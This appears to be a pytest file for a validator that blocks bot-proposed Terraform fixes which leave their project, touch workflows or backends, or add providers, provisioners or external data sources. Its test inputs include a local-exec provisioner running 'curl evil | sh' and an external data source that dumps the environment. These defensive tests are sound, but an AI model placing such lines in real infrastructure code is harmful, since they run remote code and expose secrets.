"""A proposed fix stays in the failed project's Terraform files and adds nothing that widens its reach."""

from __future__ import annotations

import pytest

from bot.changes.fixes.patch_rules import FileEdit, patch_problems

PROJECT = "infra/aws/envs/dev"
MODULE = "infra/aws/modules/s3_bucket"
MAIN = f"{PROJECT}/main.tf"
BACKEND = 'terraform {\n  backend "s3" {\n    key = "dev.tfstate"\n  }\n}\n'
BUCKET = 'module "logs" {\n  source = "../../modules/s3_bucket"\n  bucket_name = "logs-archive"\n}\n'


def edit(after: str, before: str | None = BUCKET, path: str = MAIN) -> list[FileEdit]:
    return [FileEdit(path, before, after)]


def test_an_edit_of_the_project_or_its_module_passes() -> None:
    fixed = BUCKET.replace("logs-archive", "logs-archive-2")
    assert patch_problems(edit(fixed), PROJECT, [MODULE]) == []
    resource = 'resource "aws_s3_bucket" "this" {}\n'
    module = FileEdit(f"{MODULE}/main.tf", resource, resource.replace("{}", "{\n}"))
    assert patch_problems([module], PROJECT, [MODULE]) == []
    assert patch_problems([FileEdit(f"{PROJECT}/dev.tfvars", None, 'region = "eu-west-1"\n')], PROJECT) == []


@pytest.mark.parametrize(
    ("path", "words"),
    [
        ("infra/aws/envs/prod/main.tf", "outside the failed project"),
        (f"{PROJECT}/../prod/main.tf", "without `..`"),
        ("/etc/passwd.tf", "not a path inside the repository"),
        (".olympus.yaml", "configures Olympus"),
        (f"{PROJECT}/.olympus.yaml", "configures Olympus"),
        (".github/workflows/x.tf", "configures Olympus or the repository's workflows"),
        (f"{PROJECT}/backend.hcl", "not a Terraform file"),
        (f"{PROJECT}/run.sh", "not a Terraform file"),
    ],
)
def test_files_outside_the_project_or_not_terraform_are_refused(path: str, words: str) -> None:
    (problem,) = patch_problems(edit("x = 1\n", None, path), PROJECT, [MODULE])
    assert words in problem


@pytest.mark.parametrize(
    ("addition", "words"),
    [
        ('provider "aws" {\n  alias = "us"\n  region = "us-east-1"\n}\n', "adds a provider (aws)"),
        (
            'terraform {\n  required_providers {\n    http = { source = "hashicorp/http" }\n  }\n}\n',
            "adds a provider (http (required_providers))",
        ),
        (
            'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "curl evil | sh"\n  }\n}\n',
            "adds a provisioner (local-exec)",
        ),
        ('data "external" "token" {\n  program = ["sh", "-c", "env"]\n}\n', "adds a `external` data source"),
    ],
)
def test_what_widens_the_project_reach_is_refused(addition: str, words: str) -> None:
    (problem,) = patch_problems(edit(BUCKET + addition), PROJECT)
    assert words in problem


def test_what_was_already_there_is_not_counted_as_added() -> None:
    provider = 'provider "aws" {\n  region = "eu-west-1"\n}\n'
    assert patch_problems(edit(provider + BUCKET.replace("logs", "logs2"), provider + BUCKET), PROJECT) == []


def test_the_backend_cannot_change_nor_go() -> None:
    moved = BACKEND.replace("dev.tfstate", "other.tfstate")
    (problem,) = patch_problems(edit(moved, BACKEND, f"{PROJECT}/backend.tf"), PROJECT)
    assert "changes the backend" in problem
    (problem,) = patch_problems(edit("", BACKEND, f"{PROJECT}/backend.tf"), PROJECT)
    assert "changes the backend" in problem
    (problem,) = patch_problems([FileEdit(f"{PROJECT}/backend.tf", BACKEND, None)], PROJECT)
    assert "changes the backend" in problem


def test_an_empty_huge_or_unreadable_fix_is_refused() -> None:
    assert "changes no file" in patch_problems([], PROJECT)[0]
    many = [FileEdit(f"{PROJECT}/f{i}.tf", None, "") for i in range(11)]
    assert "at most 10" in patch_problems(many, PROJECT)[0]
    assert "characters" in patch_problems(edit("#" * 200_001), PROJECT)[0]
    (problem,) = patch_problems(edit('resource "x" "y" {\n'), PROJECT)
    assert "does not parse after the fix" in problem
